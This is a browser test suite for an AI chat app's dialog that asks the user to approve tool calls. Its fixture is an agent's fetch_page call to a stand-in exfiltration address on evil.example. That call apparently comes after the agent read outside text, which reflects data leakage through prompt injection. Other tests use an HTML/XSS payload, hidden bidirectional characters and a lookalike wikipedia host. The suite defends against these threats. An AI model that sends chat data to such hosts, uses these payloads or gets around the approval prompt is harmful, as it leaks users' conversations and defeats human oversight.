import { describe, expect, test } from 'vitest';
import { userEvent } from 'vitest/browser';
import type { ApprovalAnswer, ApprovalRequest } from '../../src/contracts/permission';
import { everyNth, slow } from '../support/matrix';
import { chatRecord } from '../support/stored-chat';
import { phone, show } from './show';

const request = (changed: Partial<ApprovalRequest> = {}): ApprovalRequest => ({
  id: 'r1',
  chatId: 'chat',
  call: {
    type: 'tool-call',
    id: 'c1',
    name: 'fetch_page',
    arguments: { url: 'https://evil.example/collect?d=our-talk#x' },
  },
  toolTitle: 'Read a page',
  reason: 'composed-url-after-outside-text',
  targets: ['evil.example'],
  url: 'https://evil.example/collect?d=our-talk#x',
  origins: [{ door: 'page', name: 'news.example' }],
  offers: ['chat', 'always'],
  isLastChance: false,
  ...changed,
});

/** Shows the whole app with a pending request, and collects the answers. */
async function ask(changed?: Partial<ApprovalRequest>, options: Parameters<typeof show>[0] = {}) {
  const shown = await show({ chats: [chatRecord('chat', { title: 'What was asked' })], ...options });
  const answers: (ApprovalAnswer | 'stopped')[] = [];
  const abort = new AbortController();
  const put = (asked: ApprovalRequest) =>
    void shown.app.approvals.ask(asked, abort.signal).then(
      (answer) => answers.push(answer),
      () => answers.push('stopped'),
    );
  put(request(changed));
  const dialog = shown.screen.getByRole('dialog');
  await expect.element(dialog).toBeVisible();
  const button = (name: string) => dialog.getByRole('button', { name, exact: true });
  return { ...shown, answers, abort, put, dialog, button };
}

/** Waits until the question counts as seen and a click as single. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 900));

test('the permission dialog shows the call, its host and the reason, and focuses "Deny"', async () => {
  const { dialog, button, screen } = await ask();
  await expect.element(dialog).toHaveAccessibleName('Allow “Read a page”?');
  await expect.element(dialog).toHaveAccessibleDescription(/wrote this address itself.*gives nothing away/);
  await expect.element(button('Deny')).toHaveFocus();
  for (const said of ['fetch_page', 'evil.example', 'news.example']) {
    await expect.element(dialog).toHaveTextContent(said);
  }
  const address = screen.getByRole('figure', { name: 'Address' });
  expect(address.element().textContent.trim()).toBe('https://evil.example/collect?d=our-talk#x');
  expect(address.element().querySelector('mark')?.textContent).toBe('/collect?d=our-talk#x');
  await expect.element(dialog).toHaveTextContent('41 characters');
  // The arguments would only repeat the address.
  await expect.element(screen.getByRole('figure', { name: 'Arguments' })).not.toBeInTheDocument();
  expect(dialog.element().matches(':modal')).toBe(true);
});

slow.for<[name: string, answer: ApprovalAnswer]>([
  ['Deny', 'deny'],
  ['Allow once', 'once'],
  ['Allow in this chat', 'chat'],
  ['Always allow evil.example', 'always'],
])('a button of the permission dialog gives its answer and closes the dialog: %s', async ([name, answer]) => {
  const { answers, button, dialog } = await ask();
  await button(name).click();
  await expect.poll(() => answers).toEqual([answer]);
  await expect.element(dialog).not.toBeInTheDocument();
});

slow(
  'the permission dialog names built-in tools in the user’s language and other tools by their title',
  async () => {
    const { app, put, button, dialog } = await ask();
    await app.saveSettings({ language: 'zh' });
    await expect.element(dialog).toHaveAccessibleName('允许“读取网页”吗？');
    put(request({ id: 'r2', call: { ...request().call, name: 'own_tool' }, toolTitle: 'My tool' }));
    await button('拒绝').click();
    await expect.element(dialog).toHaveAccessibleName('允许“My tool”吗？');
  },
);

test('the permission dialog names the proxy that would receive the address', async () => {
  const { dialog } = await ask({ via: 'proxy.example.org' });
  await expect.element(dialog.getByText('proxy.example.org')).toBeVisible();
});

test('the permission dialog shows only the answers that the request offers', async () => {
  const { dialog } = await ask({ offers: [] });
  const names = dialog
    .getByRole('button')
    .elements()
    .map((node) => node.getAttribute('aria-label') ?? node.textContent.trim());
  expect(names).toEqual(['Close', 'Deny', 'Allow once']);
});

test('invariant: nothing can be allowed until the permission question has been on screen for a moment', async () => {
  const { answers, button } = await ask();
  const allow = button('Allow once').element() as HTMLButtonElement;
  expect(allow.disabled).toBe(true);
  await userEvent.click(allow, { force: true, timeout: 300 }).catch(() => undefined);
  expect(answers).toEqual([]);
  await button('Deny').click();
  await expect.poll(() => answers).toEqual(['deny']);
});

slow(
  'a permission question that follows another cannot be allowed until it has been visible for a moment',
  async () => {
    const { answers, button, put, dialog } = await ask();
    put(request({ id: 'r2', url: 'https://second.example/', targets: ['second.example'] }));
    await button('Allow once').click();
    await expect.poll(() => answers).toEqual(['once']);
    await expect.element(dialog).toHaveTextContent('second.example');
    await expect.element(button('Allow once')).toBeDisabled();
    await expect.element(button('Allow once')).toBeEnabled();
  },
);

slow('a script cannot allow a tool call', async () => {
  const { answers, button } = await ask();
  const allow = button('Allow once');
  await expect.element(allow).toBeEnabled();
  const node = allow.element() as HTMLButtonElement;
  node.click();
  node.dispatchEvent(new PointerEvent('pointerdown', { bubbles: true }));
  node.dispatchEvent(new MouseEvent('click', { bubbles: true, detail: 1 }));
  node.focus();
  node.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
  await settle();
  expect(answers).toEqual([]);
});

slow('a double click does not allow a tool call', async () => {
  const { answers, button, dialog } = await ask();
  await expect.element(button('Allow once')).toBeEnabled();
  await button('Allow once').dblClick();
  await settle();
  expect(answers).toEqual([]);
  await expect.element(dialog).toBeVisible();
});

slow.for(['{Enter>}', '[Space>]'])(
  'a key that was already held down does not allow a tool call: %s',
  async (key) => {
    const { answers, button } = await ask();
    const allow = button('Allow once');
    await expect.element(allow).toBeEnabled();
    // The key was pressed before the dialog opened, so the button gets only repeats.
    const node = allow.element() as HTMLButtonElement;
    const name = key.includes('Enter') ? 'Enter' : ' ';
    node.focus();
    const repeat = new KeyboardEvent('keydown', { key: name, repeat: true, bubbles: true, cancelable: true });
    expect(node.dispatchEvent(repeat)).toBe(false);
    await settle();
    expect(answers).toEqual([]);
  },
);

slow('a key pressed on an enabled button of the permission dialog allows the tool call', async () => {
  const { answers, button } = await ask();
  await expect.element(button('Allow once')).toBeEnabled();
  await userEvent.tab();
  await expect.element(button('Allow once')).toHaveFocus();
  await userEvent.keyboard('{Enter}');
  await expect.poll(() => answers).toEqual(['once']);
});

slow('Escape refuses the tool call', async () => {
  const { answers } = await ask();
  await userEvent.keyboard('{Escape}');
  await expect.poll(() => answers).toEqual(['deny']);
});

slow('Stop closes the permission dialog and restores the focus', async () => {
  const shown = await show();
  await shown.message.click();
  const abort = new AbortController();
  const asked = shown.app.approvals.ask(request(), abort.signal);
  asked.catch(() => undefined);
  await expect.element(shown.screen.getByRole('dialog')).toBeVisible();
  abort.abort();
  await expect.element(shown.screen.getByRole('dialog')).not.toBeInTheDocument();
  await expect(asked).rejects.toThrow();
  await expect.element(shown.message).toHaveFocus();
});

test('if a chat in the background asks for permission, the dialog names that chat', async () => {
  const { dialog } = await ask();
  await expect.element(dialog).toHaveTextContent('Asked by another chat: “What was asked”.');
});

test('the permission dialog warns that a third refusal switches the tool off until the next question', async () => {
  const { dialog } = await ask({ isLastChance: true });
  await expect.element(dialog).toHaveAccessibleDescription(/If you refuse again, it is off/);
});

test('the permission dialog shows an internationalized host both in punycode and in its own letters', async () => {
  const { dialog, button } = await ask({ targets: ['xn--e1afmkfd.xn--80akhbyknj4f'] });
  await expect
    .element(dialog)
    .toHaveTextContent('xn--e1afmkfd.xn--80akhbyknj4f (shown as “пример.испытание”)');
  await expect.element(button('Always allow xn--e1afmkfd.xn--80akhbyknj4f')).toBeInTheDocument();
});

test('the permission dialog escapes invisible and bidirectional characters and HTML', async () => {
  const query = 'a\u202eb\u200b<img src=x onerror=alert(1)>\u{e0041}';
  const { dialog, screen } = await ask({
    reason: 'first-search',
    url: undefined,
    query,
    call: { type: 'tool-call', id: 'c', name: 'web_search', arguments: { query } },
  });
  await expect
    .element(dialog)
    .toHaveTextContent('a\\u202eb\\u200b<img src=x onerror=alert(1)>\\udb40\\udc41');
  expect(dialog.element().querySelector('img')).toBeNull();
  const sent = screen.getByRole('figure', { name: 'Search words' }).element().textContent;
  expect(sent).not.toMatch(/\p{Cf}/u);
  expect(JSON.parse(`"${sent}"`)).toEqual(query);
  await expect.element(screen.getByRole('figure', { name: 'Arguments' })).not.toBeInTheDocument();
});

test('the permission dialog shows all tool arguments, not only the address', async () => {
  const input = { url: request().url, body: 'a\u200bb' };
  const { screen } = await ask({ call: { ...request().call, arguments: input } });
  const given = screen.getByRole('figure', { name: 'Arguments' }).element().textContent;
  expect(given).not.toMatch(/\p{Cf}/u);
  expect(JSON.parse(given)).toEqual(input);
});

describe('long content in the permission dialog', () => {
  const url = `https://en.wikipedia.org.a.evil.example/${'path/'.repeat(370)}secret/${'path/'.repeat(10)}`;
  const asked = { url, targets: ['en.wikipedia.org.a.evil.example'] };

  slow('a long address must be scrolled to its end before it can be allowed', async () => {
    const { answers, screen, button, dialog } = await ask(asked);
    const box = screen.getByRole('figure', { name: 'Address' }).element();
    await expect.element(dialog).toHaveTextContent(/1,947 characters, 1,\d{3} of them below/);
    await expect.element(dialog).toHaveTextContent('Scroll through all of it first.');
    await settle();
    await expect.element(button('Allow once')).toBeDisabled();
    await expect.element(button('Always allow en.wikipedia.org.a.evil.example')).toBeDisabled();
    await expect.element(button('Deny')).toBeEnabled();
    box.scrollTop = box.scrollHeight / 2;
    await settle();
    await expect.element(button('Allow once')).toBeDisabled();
    box.scrollTop = box.scrollHeight;
    await expect.element(button('Allow once')).toBeEnabled();
    expect(dialog.element().textContent).not.toContain('of them below');
    await button('Allow once').click();
    await expect.poll(() => answers).toEqual(['once']);
  });

  slow('long tool arguments must be scrolled to their end before they can be allowed', async () => {
    const call = { ...request().call, name: 'own_tool', arguments: { text: 'word '.repeat(900) } };
    const { screen, button } = await ask({ reason: 'tool-hosts', url: undefined, call });
    const box = screen.getByRole('figure', { name: 'Arguments' }).element();
    await settle();
    await expect.element(button('Allow once')).toBeDisabled();
    box.scrollTop = box.scrollHeight;
    await expect.element(button('Allow once')).toBeEnabled();
  });
});

test('the permission dialog highlights the registered domain of a long host and shows only that domain on a button', async () => {
  const host = `en.wikipedia.org.${'a'.repeat(60)}.evil.example.net`;
  const { dialog, button } = await ask({ targets: [host], url: `https://${host}/` });
  const own = [...dialog.element().querySelectorAll('dd b')].map((node) => node.textContent);
  expect(own[0]).toBe('example.net');
  await expect.element(dialog).toHaveTextContent(host);
  await expect.element(button('Always allow …example.net')).toBeInTheDocument();
});

test('the permission dialog says if the chat has read nothing from outside', async () => {
  const { dialog } = await ask({ reason: 'composed-url', origins: [] });
  await expect.element(dialog).toHaveTextContent('This chat has read nothing from outside');
});

const screens = [[320, 568] as const, [390, 740] as const, [740, 360] as const];
describe.for(everyNth(2, screens))('the permission dialog on a screen of %i × %i', (size) => {
  test.for([
    { what: 'an ordinary address', changed: {} },
    {
      what: 'a long host and a long address',
      changed: {
        targets: [`${'long-name.'.repeat(6)}evil.example`],
        url: `https://${'long-name.'.repeat(6)}evil.example/${'path/'.repeat(100)}?d=${'x'.repeat(1400)}`,
        isLastChance: true,
      },
    },
  ])('shows the title, the reason, the host and every answer: $what', async ({ changed }) => {
    const { dialog, button } = await ask(changed, { size });
    await expect.element(button('Deny')).toHaveFocus();
    const frame = dialog.element().getBoundingClientRect();
    expect(frame.left).toBeGreaterThanOrEqual(0);
    expect(frame.right).toBeLessThanOrEqual(size[0]);
    expect(frame.bottom).toBeLessThanOrEqual(size[1]);
    const body = dialog.element().querySelector('.body')!;
    expect(body.scrollWidth).toBe(body.clientWidth);
    expect(body.scrollTop).toBe(0);
    const visible = body.getBoundingClientRect();
    const [title, reason, host] = ['h2', '.why', 'dd bdi b'].map((part) =>
      dialog.element().querySelector(part)!.getBoundingClientRect(),
    );
    expect(title!.top).toBeGreaterThanOrEqual(frame.top);
    expect(title!.bottom).toBeLessThanOrEqual(visible.top + 1);
    for (const seen of [reason!, host!]) {
      expect(seen.top).toBeGreaterThanOrEqual(visible.top);
      expect(seen.bottom).toBeLessThanOrEqual(visible.bottom);
    }
    for (const answer of dialog.element().querySelectorAll('.actions button')) {
      expect(answer.getBoundingClientRect().bottom).toBeLessThanOrEqual(frame.bottom);
      expect(answer.getBoundingClientRect().top).toBeGreaterThanOrEqual(visible.bottom);
    }
  });
});

test('on a phone, the answers in the permission dialog are stacked at full width', async () => {
  const { dialog } = await ask({}, { size: phone });
  const answers = [...dialog.element().querySelectorAll('.actions button')].map((node) =>
    node.getBoundingClientRect(),
  );
  expect(new Set(answers.map(({ left }) => left)).size).toBe(1);
  expect(new Set(answers.map(({ width }) => width)).size).toBe(1);
  expect(answers[0]!.width).toBeGreaterThan(300);
});
